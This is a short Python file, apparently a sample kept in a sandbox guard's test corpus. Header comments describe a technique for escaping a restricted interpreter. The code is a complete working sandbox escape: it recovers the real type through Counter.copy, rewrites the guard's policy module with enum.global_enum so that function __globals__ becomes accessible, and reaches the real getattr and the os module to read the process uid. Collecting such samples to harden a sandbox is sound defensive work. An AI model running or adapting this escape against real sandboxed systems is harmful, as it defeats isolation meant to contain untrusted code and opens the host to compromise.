# ruff: noqa - a hostile script, kept as written
# threat: 3 reach interpreter internals
# technique: type (from Counter.copy(int)) builds a class whose __module__ names the sandbox's policy module; enum.global_enum(cls) writes its __members__ into that module: DATA_ATTRS now grants __globals__ on functions -> enum's globals -> the real getattr -> os
# why: global_enum updates sys.modules[cls.__module__].__dict__ with whatever the class carries, and the guard reads its policy table from the module at every access
# escapes: runner a75ee23, wide allowlist
import collections
import enum

real_type = collections.Counter.copy(int)
function = real_type(enum.unique)
Patch = real_type("Patch", (), {
    "__module__": "common_api.sandbox.policy",
    "__members__": {"DATA_ATTRS": {function: frozenset({"__globals__"}), str: frozenset({"join"})}},
})
enum.global_enum(Patch)  # in the child's copy of the module: it dies with the script
module_globals = getattr(enum.unique, "__globals__")
real_getattr = module_globals["__builtins__"]["getattr"]
os = real_getattr(real_getattr(module_globals["sys"], "modules")["os"], "__dict__")
result = "ESCAPED the guard's policy table rewritten: enum's globals, the real getattr, os; uid=%d" % (
    os["getuid"]())
